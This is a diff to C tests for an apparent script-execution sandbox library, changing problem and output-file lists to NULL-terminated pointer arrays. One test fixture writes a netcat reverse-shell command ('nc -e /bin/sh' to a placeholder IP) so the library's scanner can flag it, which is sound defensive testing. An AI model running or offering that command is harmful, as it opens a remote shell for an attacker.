@@ -88,19 +88,18 @@ static void check(void) {
                                       .skill_dir = "/nosuch",
                                       .origin = "untrusted",
                                       .isolation = "none"};
-        hutch_problem *problems = NULL;
+        hutch_problem **problems = NULL;
         hutch_error err = {0};
         unsigned seen = 0;
-        size_t n = 0;
 
         put("bad.sh", "nc -e /bin/sh 192.0.2.1 1\n");
-        if (hutch_exec_check(NULL, &request, &problems, &n, &err) < 0)
+        if (hutch_exec_check(NULL, &request, &problems, &err) < 0)
                 fprintf(stderr, "# %s\n", err.message);
-        for (size_t i = 0; i < n; i++)
-                seen |= strcmp(problems[i].part, "scan") == 0          ? 1u
-                        : strcmp(problems[i].part, "environment") == 0 ? 2u
-                        : strcmp(problems[i].part, "skill") == 0       ? 4u
-                        : strcmp(problems[i].part, "isolation") == 0   ? 8u
+        for (size_t i = 0; problems && problems[i]; i++)
+                seen |= strcmp(problems[i]->part, "scan") == 0          ? 1u
+                        : strcmp(problems[i]->part, "environment") == 0 ? 2u
+                        : strcmp(problems[i]->part, "skill") == 0       ? 4u
+                        : strcmp(problems[i]->part, "isolation") == 0   ? 8u
                                                                        : 0;
         ok(seen == 15, "hutch_exec_check: every problem at once");
         hutch_free(problems);
@@ -133,8 +132,8 @@ static void exec_one(void) {
                 ok(e == 0 && r->exit_code == 3 && r->output_len[HUTCH_STDOUT] == strlen(want) &&
                            memcmp(r->output[HUTCH_STDOUT], want, strlen(want)) == 0,
                    "hutch_exec: arguments, standard input and status");
-                ok(r && r->n_output_files == 1 && strcmp(r->output_files[0].path, "five") == 0 &&
-                           r->output_files[0].size == 6,
+                ok(r && r->output_files && r->output_files[0] && !r->output_files[1] && strcmp(r->output_files[0]->path, "five") == 0 &&
+                           r->output_files[0]->size == 6,
                    "hutch_exec: what the script left is listed with its size");
         }
         hutch_result_free(r);
